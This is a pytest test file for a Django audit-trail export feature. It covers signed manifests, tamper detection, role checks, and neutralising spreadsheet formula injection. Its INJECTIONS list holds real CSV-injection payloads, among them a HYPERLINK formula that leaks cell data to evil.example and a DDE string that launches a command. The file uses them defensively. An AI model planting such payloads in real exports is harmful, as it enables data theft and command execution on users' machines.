"""Exports: CSV and JSON Lines of the current filter, streamed; manifests; the export recorded; a round trip
through the offline verifier; spreadsheet formulas and control characters kept inert."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from audit import signing
from audit.exports import JsonLinesExport, csv_cell, csv_value, read_csv
from audit.models import AuditEvent
from audit.records import record
from audit.verify import verify_segment
from deployments.models import Role

pytestmark = pytest.mark.django_db

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "|calc",
    "'quoted",
    "line one\nline two\r\nline three",
    "nul\x00 bell\x07 esc\x1b del\x7f nel\x85 ls\u2028 ps\u2029",
    "back\\slash \\n not a newline",
    'plain, with "quotes" and, commas',
]


def _body(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def trail(make_events, deployment, make_user):
    olga = make_user(username="olga")
    events = make_events(5, actor=olga, target=deployment, reason="routine", details={"n": 1})
    events += [record(action="role.granted", target={"label": text}, reason=text) for text in INJECTIONS]
    return events


def test_it_exports_csv_that_verifies_against_its_manifest(client_for, auditor, trail):
    client = client_for(auditor)
    newest = AuditEvent.objects.order_by("-id").first().pk

    response = client.get(reverse("audit_export_csv"))
    body = _body(response)
    manifest = client.get(reverse("audit_export_manifest"), {"upto": newest}).json()["manifest"]

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["X-Audit-Upto"] == str(newest)
    assert f'filename="audit-{newest}.csv"' in response["Content-Disposition"]
    rows = list(read_csv(io.StringIO(body, newline="")))
    assert len(rows) == AuditEvent.objects.filter(id__lte=newest).count() == manifest["count"]
    assert manifest["contiguous"] is True and manifest["exported_by"] == "auditor"
    result = verify_segment(rows, manifest)
    assert result.ok, str(result)


def test_it_exports_json_lines_ending_with_the_manifest(client_for, auditor, trail):
    body = _body(client_for(auditor).get(reverse("audit_export_jsonl")))
    lines = body.splitlines()  # the strictest splitter: it also breaks on U+2028, U+0085 ...
    assert lines == body.split("\n")[:-1]
    manifest = json.loads(lines[-1])["manifest"]
    first = json.loads(lines[0])

    assert manifest["count"] == len(lines) - 1
    assert (manifest["first_id"], manifest["first_hash"]) == (first["id"], first["hash"])
    assert manifest["last_hash"] == AuditEvent.objects.get(pk=manifest["last_id"]).hash
    export = JsonLinesExport(io.StringIO(body))
    assert verify_segment(export, lambda: export.manifest).ok


def test_it_exports_only_the_current_filter(client_for, auditor, trail):
    body = _body(client_for(auditor).get(reverse("audit_export_jsonl"), {"actor": "olga"}))
    export = JsonLinesExport(io.StringIO(body))
    rows = list(export)
    assert {row["actor_username"] for row in rows} == {"olga"} and len(rows) == 5
    assert export.manifest["filters"] == {"actor": "olga"} and export.manifest["contiguous"] is False
    assert verify_segment(rows, export.manifest).ok


def test_it_records_each_export_with_its_filters_and_count(client_for, auditor, trail):
    client_for(auditor).get(reverse("audit_export_csv"), {"actor": "olga"})
    event = AuditEvent.objects.get(action="audit.exported")
    details = json.loads(event.details)
    assert event.actor_username == "auditor"
    assert details["format"] == "csv" and details["filters"] == {"actor": "olga"} and details["count"] == 5
    assert details["upto_id"] == event.pk - 1  # pinned before its own event, which it does not include


def test_it_finds_a_changed_row_in_an_export(client_for, auditor, trail):
    body = _body(client_for(auditor).get(reverse("audit_export_jsonl")))
    lines = body.splitlines()
    row = json.loads(lines[2])
    row["reason"] = "something else"
    lines[2] = json.dumps(row)
    export = JsonLinesExport(io.StringIO("\n".join(lines)))
    result = verify_segment(export, lambda: export.manifest)
    assert (result.ok, result.first_bad_id) == (False, row["id"])
    assert result.problem.startswith("changed:")


def test_it_finds_a_row_left_out_of_an_export(client_for, auditor, trail):
    body = _body(client_for(auditor).get(reverse("audit_export_jsonl")))
    lines = body.splitlines()
    removed = json.loads(lines.pop(3))
    following = json.loads(lines[3])
    export = JsonLinesExport(io.StringIO("\n".join(lines)))
    result = verify_segment(export, lambda: export.manifest)
    assert not result.ok and result.first_bad_id == following["id"]
    assert result.problem == f"missing: sequence {removed['sequence']} is not in this contiguous export"


def test_it_finds_a_row_left_out_of_a_filtered_export_by_the_manifest(client_for, auditor, trail):
    body = _body(client_for(auditor).get(reverse("audit_export_jsonl"), {"actor": "olga"}))
    lines = body.splitlines()
    del lines[1]
    export = JsonLinesExport(io.StringIO("\n".join(lines)))
    result = verify_segment(export, lambda: export.manifest)
    assert not result.ok and result.problem.startswith("missing: the manifest's count")


def test_it_keeps_injection_strings_inert_and_on_one_line(client_for, auditor, trail):
    response = client_for(auditor).get(reverse("audit_export_csv"))
    body = _body(response)

    physical_lines = body.split("\r\n")
    assert physical_lines[-1] == ""
    exported = AuditEvent.objects.filter(id__lte=response["X-Audit-Upto"]).count()
    assert len(physical_lines) == 1 + exported + 1  # header, one line per event, the final line end
    for line in physical_lines:
        assert not any(ch in line for ch in "\n\r\x00\x07\x1b\x7f\x85\u2028\u2029")
    for cells in csv.reader(io.StringIO(body, newline="")):
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "|", "\t", "\r")), cell
    # ... and nothing is lost: the verifier reads the exact values back.
    reasons = [row["reason"] for row in read_csv(io.StringIO(body, newline=""))]
    for text in INJECTIONS:
        assert text.replace("\x00", "\ufffd") in reasons


@pytest.mark.parametrize("text", [*INJECTIONS, "", "ordinary", "-", "'", "\\"])
def test_its_csv_escaping_round_trips(text):
    cell = csv_cell(text)
    assert "\n" not in cell and "\r" not in cell
    assert csv_value(cell, "reason") == text


@pytest.mark.parametrize("role", [Role.VIEWER, Role.OPERATOR, Role.APPROVER])
@pytest.mark.parametrize("name", ["audit_export_csv", "audit_export_jsonl", "audit_export_manifest"])
def test_it_refuses_exports_to_other_roles(client, make_user, role, name):
    client.force_login(make_user(role, username=f"just-{role}"))
    assert client.get(reverse(name)).status_code == 403
    denied = AuditEvent.objects.get(action="access.denied")
    assert json.loads(denied.details)["permission"] == "audit.export_audit"
    assert not AuditEvent.objects.filter(action="audit.exported").exists()


def test_it_answers_a_bad_export_filter_with_400(client_for, auditor):
    assert client_for(auditor).get(reverse("audit_export_csv"), {"deployment": "x"}).status_code == 400
    assert not AuditEvent.objects.filter(action="audit.exported").exists()


def test_it_offers_exports_pinned_to_the_newest_event_on_the_page(client_for, auditor, trail):
    html = client_for(auditor).get(reverse("audit_event_list"), {"actor": "olga"}).content.decode()
    newest = AuditEvent.objects.order_by("-id").first().pk
    assert f"/audit/export.csv?actor=olga&amp;upto={newest}" in html
    assert f"/audit/export.manifest.json?actor=olga&amp;upto={newest}" in html


def test_it_signs_the_manifests_of_both_formats(client_for, auditor, trail):
    client = client_for(auditor)
    body = _body(client.get(reverse("audit_export_jsonl")))
    in_line = json.loads(body.splitlines()[-1])["manifest"]
    separate = client.get(reverse("audit_export_manifest"), {"upto": in_line["upto_id"]}).json()["manifest"]
    for manifest in (in_line, separate):
        assert (manifest["signature_algorithm"], manifest["signature_key"]) == ("HMAC-SHA256", "derived")
        assert signing.signature_problem(manifest) == ""


def test_it_signs_with_the_configured_key_and_says_so(client_for, auditor, trail, settings):
    settings.AUDIT_EXPORT_SIGNING_KEY = "a configured signing key of 32+ characters"
    export = JsonLinesExport(io.StringIO(_body(client_for(auditor).get(reverse("audit_export_jsonl")))))
    assert verify_segment(export, lambda: export.manifest).ok
    assert export.manifest["signature_key"] == "configured"


def test_it_pins_a_later_upto_to_the_newest_event(client_for, auditor, trail):
    # A signed manifest must not claim a contiguous export up to an id that did not exist yet.
    client = client_for(auditor)
    newest = AuditEvent.objects.order_by("-id").first().pk
    response = client.get(reverse("audit_export_csv"), {"upto": newest + 1000})
    manifest = client.get(reverse("audit_export_manifest"), {"upto": newest + 1000}).json()["manifest"]
    assert response["X-Audit-Upto"] == str(newest)
    assert manifest["upto_id"] == newest + 1  # the CSV export's own audit.exported event came since
    assert json.loads(AuditEvent.objects.get(action="audit.exported").details)["upto_id"] == newest
